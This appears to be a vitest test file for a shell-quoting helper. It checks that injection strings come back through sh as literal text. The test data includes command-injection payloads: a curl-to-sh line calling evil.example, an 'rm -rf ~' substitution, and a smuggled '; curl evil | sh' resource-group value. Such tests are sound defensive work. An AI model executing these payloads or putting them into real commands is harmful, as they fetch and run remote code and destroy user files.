import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { sh, shellQuote, singleQuoted } from '../../src/util/shell-quote.js';

/** What a POSIX shell makes of `printf %s <quoted>`: the word it reads back, byte for byte. */
function readBack(quoted: string): string {
  return execFileSync('sh', ['-c', `printf %s ${quoted}`], { encoding: 'utf8' });
}

const HOSTILE = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell payload, not a template
  'dns-rg;curl${IFS}-s${IFS}https://evil.example/x|sh',
  '$(rm -rf ~)',
  '`id`',
  "it's",
  "''",
  '"double" and \\backslash\\',
  'a b\tc',
  'line1\nline2',
  '*',
  '~',
  '-n',
  '>out <in & bg',
  '#comment',
  '!history',
  '',
  'ünïcödé 한국어',
];

describe('shellQuote', () => {
  it.each(HOSTILE)('reads back exactly as %j', (value) => {
    expect(readBack(shellQuote(value))).toBe(value);
  });

  it('leaves plain words as they are, so ordinary commands read naturally', () => {
    for (const word of [
      'example.com',
      'us-east-1',
      '10.0.0.0/16',
      'user@host',
      'a=b,c:d',
      '/dev/disk/by-id/x',
    ]) {
      expect(shellQuote(word)).toBe(word);
    }
    expect(shellQuote('dns rg')).toBe("'dns rg'");
    expect(shellQuote("it's")).toBe(`'it'\\''s'`);
  });

  it('round-trips any string without NUL through sh', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 40 }), (value) => {
        const text = value.replaceAll('\u0000', '');
        expect(readBack(shellQuote(text))).toBe(text);
      }),
      { numRuns: 150 },
    );
  });
});

describe('singleQuoted', () => {
  it.each(HOSTILE)('reads back exactly as %j', (value) => {
    expect(readBack(singleQuoted(value))).toBe(value);
  });

  it('quotes plain words too, for assignments such as control_subnet=cp', () => {
    expect(singleQuoted('cp')).toBe("'cp'");
    expect(singleQuoted("it's")).toBe(`'it'\\''s'`);
  });
});

describe('sh', () => {
  it('quotes every interpolated value as one word and keeps the literal parts', () => {
    const group = 'dns-rg; curl evil | sh';
    const command = sh`az network dns zone show --name ${'example.com'} --resource-group ${group}`;
    expect(command).toBe(
      "az network dns zone show --name example.com --resource-group 'dns-rg; curl evil | sh'",
    );
    const words = execFileSync('sh', ['-c', `set -- ${command.replace(/^az /, '')}; printf '%s\\n' "$@"`], {
      encoding: 'utf8',
    });
    expect(words.trim().split('\n')).toEqual([
      'network',
      'dns',
      'zone',
      'show',
      '--name',
      'example.com',
      '--resource-group',
      group,
    ]);
  });

  it('writes a list as several words', () => {
    expect(sh`sha512sum ${['a b.ign', 'c.ign']}`).toBe("sha512sum 'a b.ign' c.ign");
    expect(sh`echo ${3}`).toBe('echo 3');
  });
});
